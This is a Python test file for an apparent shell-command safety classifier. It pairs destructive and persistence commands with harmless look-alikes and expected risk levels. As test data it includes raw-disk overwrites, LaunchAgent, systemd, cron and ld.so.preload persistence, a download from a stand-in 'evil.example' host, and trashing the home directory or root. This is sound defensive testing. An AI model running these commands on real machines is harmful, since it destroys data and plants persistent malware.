"""Families of commands: each harmful one beside look-alikes that stay harmless."""

from __future__ import annotations

import pytest

from evalward.safety import assess


def _said(command: str) -> tuple[str, list[str]]:
    assessment = assess(command)
    return str(assessment.level), [finding.rule for finding in assessment.findings]


@pytest.mark.parametrize(
    ("level", "rule", "command"),
    [
        ("critical", "write.disk", "ditto --rsrc /dev/zero /dev/disk1"),
        ("high", "write.system", "ditto Evil.app /System/Applications/Mail.app"),
        ("high", "write.autostart", "cp evil.plist ~/Library/LaunchAgents/"),
        ("high", "write.autostart", "mv evil.plist /Users/bob/Library/LaunchAgents/com.evil.plist"),
        ("high", "write.autostart", "install -m 644 evil.plist ~/Library/LaunchAgents"),
        ("high", "write.autostart", "echo x | tee ~/Library/LaunchAgents/com.evil.plist"),
        ("high", "write.autostart", "echo x > ~/Library/LaunchAgents/com.evil.plist"),
        ("high", "write.autostart", "echo x >> ~/Library/LaunchAgents/com.evil.plist"),
        ("high", "write.unknown", 'cat x > "$HOME/Library/LaunchAgents/$LABEL.plist"'),
        ("high", "write.autostart", "ditto evil.plist ~/Library/LaunchAgents/evil.plist"),
        ("high", "write.system", "sudo cp evil.plist /Library/LaunchDaemons/"),
        ("high", "write.autostart", "cp evil.desktop ~/.config/autostart/"),
        ("high", "write.autostart", "ln -s /tmp/evil.service ~/.config/systemd/user/default.target.wants/"),
        ("high", "write.autostart", "curl -o ~/.config/systemd/user/evil.service https://evil.example/s"),
        ("high", "write.system", "cp evil.service /etc/systemd/system/"),
        ("high", "write.system", "cp evil /var/spool/cron/crontabs/root"),
        ("critical", "write.system", "cp evil /etc/ld.so.preload"),
        ("safe", "", "cp x.plist ~/Desktop/"),
        ("safe", "", "ditto -x -k app.zip build/"),
        ("safe", "", "ditto -c -k --keepParent build/App.app App.zip"),
        ("safe", "", "cp ~/Library/LaunchAgents/com.me.sync.plist ./sync.plist"),
        ("safe", "", "ls -l ~/Library/LaunchAgents /Library/LaunchDaemons"),
        ("safe", "", "plutil -lint ~/Library/LaunchAgents/com.me.sync.plist"),
        ("safe", "", "cat ~/.config/autostart/app.desktop"),
        ("safe", "", "mkdir -p ~/Library/LaunchAgents ~/.config/systemd/user"),
        ("safe", "", "cp autostart.md docs/"),
        ("safe", "", "cp LaunchAgents/com.me.sync.plist build/"),
        ("safe", "", "diff x.service ~/.config/systemd/user/x.service"),
        ("safe", "", "cp ~/.config/autostart/app.desktop ~/Desktop/"),
        ("safe", "", "echo x > ~/.config/autostart.toml"),
        ("safe", "", "cp evil.plist ~/Library/LaunchAgentsOld/x.plist"),
    ],
)
def test_what_starts_later(level: str, rule: str, command: str) -> None:
    found, rules = _said(command)
    assert found == level, rules
    assert not rule or rule in rules


@pytest.mark.parametrize(
    ("level", "rule", "command"),
    [
        ("high", "deletion.home", "trash ~"),
        ("high", "deletion.home", "trash-put ~/"),
        ("high", "deletion.home", "gio trash ~"),
        ("high", "deletion.system", "sudo trash /etc"),
        ("high", "deletion.root", "trash /*"),
        ("moderate", "deletion.personal", "trash ~/Documents"),
        ("moderate", "deletion.unknown", 'trash "$x"'),
        ("moderate", "deletion.repository", "gio trash .git"),
        ("moderate", "deletion.cache", "trash-empty 30"),
        ("moderate", "deletion.cache", "gio trash --empty"),
        ("critical", "deletion.home", "gio remove -f ~"),
        ("safe", "", "trash build/"),
        ("safe", "", "trash notes.txt"),
        ("safe", "", "trash-put old.log"),
        ("safe", "", "trash-list"),
        ("safe", "", "trash-restore"),
        ("safe", "", "trash --help"),
        ("safe", "", "gio trash --list"),
        ("safe", "", "gio trash build"),
        ("safe", "", "gio info ~"),
        ("safe", "", "gio open ~/Documents"),
        ("safe", "", "trash-empty --dry-run"),
    ],
)
def test_the_trash_gives_back(level: str, rule: str, command: str) -> None:
    found, rules = _said(command)
    assert found == level, rules
    assert not rule or rule in rules
